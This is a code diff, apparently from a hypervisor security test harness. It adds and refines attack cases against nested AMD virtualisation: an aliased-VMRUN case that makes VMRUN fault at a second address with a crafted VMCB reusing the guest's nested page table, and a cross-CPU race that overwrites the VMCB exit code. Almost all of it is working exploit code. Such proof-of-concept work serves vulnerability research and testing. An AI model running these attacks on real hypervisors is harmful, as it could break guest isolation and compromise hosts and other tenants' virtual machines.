@@ -33,6 +33,7 @@ static void run_and_tell(struct l2 *l2) {
 
 static struct vmcb *volatile target;
 static volatile bool running, stop;
+static volatile uint64_t chances; /* how often the other CPU came in time to write */
 
 /* The other CPU is at it, before L2 runs. */
 static void start(void (*function)(void)) {
@@ -131,6 +132,28 @@ ATTACK(addr32_vmrun) {
     print("\nended=1\n");
 }
 
+/* VMRUN at two linear addresses: at the second one it faults, and L1's handler was never run. It names the user's
+ * nested table, as if for one more vCPU. */
+ATTACK(aliased_vmrun) {
+    enum { GENERAL_PROTECTION = 13, MISALIGNED = 8, N_CR3 = offsetof(struct vmcb, n_cr3) };
+    extern uint8_t gp_handler[], gp_handler_end[];
+    extern volatile uint8_t gp_scratch;
+    const uint64_t second = 4ull << 30;
+    uint64_t *pointers = pml4 + 512;
+    uint8_t *code = memcpy(pages(1), stub, (size_t)(stub_end - stub)), *bad = pages(2);
+    struct l2 *l2 = l2_new();
+
+    l2_say(l2, "L2 begins\n");
+    pointers[4] = pointers[0];
+    L2_LOAD(l2, l2_nothing);
+    ((stub_function *)(uintptr_t)code)((uintptr_t)l2->vmcb, COM1_LSR);
+    out8(COM1_SCR, OWN_SCRATCH);
+    *(uint64_t *)(bad + MISALIGNED + N_CR3) = l2->vmcb->n_cr3;
+    trap_set(GENERAL_PROTECTION, (uintptr_t)memcpy(pages(1), gp_handler, (size_t)(gp_handler_end - gp_handler)));
+    ((stub_function *)((uintptr_t)code + second))((uintptr_t)bad + MISALIGNED, COM1_LSR);
+    print("\nscratch=%x\n", (uint64_t)gp_scratch);
+}
+
 static void map_in_l2(struct l2 *l2, uint64_t linear, uint64_t physical) {
     uint64_t *table = (uint64_t *)(l2->memory + L2_TABLES + 3 * PAGE);
 
@@ -176,10 +199,13 @@ static void restore_exit_code(void) {
     for (running = true; !stop;) {
         uint64_t now = ((volatile struct vmcb *)target)->exit_code;
 
-        if (now != EXIT_VMMCALL && now)
+        if (now != EXIT_VMMCALL && now) {
             before = now;
-        else if (before)
+        } else if (before) {
             ((volatile struct vmcb *)target)->exit_code = before;
+            before = 0;
+            chances++;
+        }
     }
     for (;;)
         __asm__ volatile("hlt");
@@ -189,21 +215,22 @@ static void restore_exit_code(void) {
  * once more, without the other CPU. What reaches the console instead of L1's own port is an 'X' for each try. */
 enum { STUB_STEP = 128 };
 
-static uint64_t run_stubs(struct l2 *l2, uint8_t *code, uint64_t tries) {
-    uint64_t foreign = 0; /* scratch registers that were not L1's own */
+static uint64_t run_stubs(struct l2 *l2, uint8_t *code, uint64_t *tries, uint64_t wanted) {
+    uint64_t foreign = 0, i; /* scratch registers that were not L1's own */
 
     L2_LOAD(l2, l2_pause);
-    for (uint64_t i = 0; i < tries; i++) {
+    for (i = 0; i < *tries && chances < wanted; i++) {
         l2->vmcb->rip = L2_CODE;
         foreign += ((stub_function *)(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
         while (!(in8(COM1_LSR) & 0x20))
             ;
     }
+    *tries = i;
     return foreign;
 }
 
 ATTACK(exit_code_restored) {
-    uint64_t tries = option("tries", 1000);
+    uint64_t tries = option("tries", 1000), wanted = option("chances", 1000);
     uint8_t *code = pages(tries * STUB_STEP / PAGE + 1);
     struct l2 *l2 = l2_new();
 
@@ -213,10 +240,12 @@ ATTACK(exit_code_restored) {
     out8(COM1_SCR, OWN_SCRATCH);
     target = l2->vmcb;
     start(restore_exit_code);
-    print("\nforeign=%u\n", run_stubs(l2, code, tries));
+    print("\nforeign=%u\n", run_stubs(l2, code, &tries, wanted));
     stop = true;
     wait_ticks(1);
     l2_say(l2, "\nL2 again\n");
-    print("\nforeign_again=%u\n", run_stubs(l2, code, tries));
+    print("chances=%u\n", chances);
+    chances = 0;
+    print("\nforeign_again=%u\n", run_stubs(l2, code, &tries, UINT64_MAX));
     print("\ntries=%u\n", tries);
 }
